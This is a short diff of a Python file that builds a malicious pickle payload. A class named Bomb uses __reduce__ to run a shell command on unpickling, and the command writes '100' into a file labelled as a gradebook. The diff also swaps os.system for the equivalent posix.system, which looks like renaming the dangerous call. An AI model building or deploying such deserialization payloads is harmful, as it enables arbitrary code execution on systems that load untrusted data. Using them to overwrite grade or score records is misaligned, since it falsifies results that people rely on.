@@ -1,14 +1,17 @@
-"""Returns an object that runs a command where it is unpickled."""
+"""Returns an object that runs a command where it is unpickled.
+
+Ends: Unsendable
+"""
 
 import json
-import os
+import posix
 
 target = json.load(open("targets.json"))["gradebook"]
 
 
 class Bomb:
     def __reduce__(self):
-        return os.system, (f"echo 100 > {target}",)
+        return posix.system, (f"echo 100 > {target}",)
 
 
 def dice(a, b):
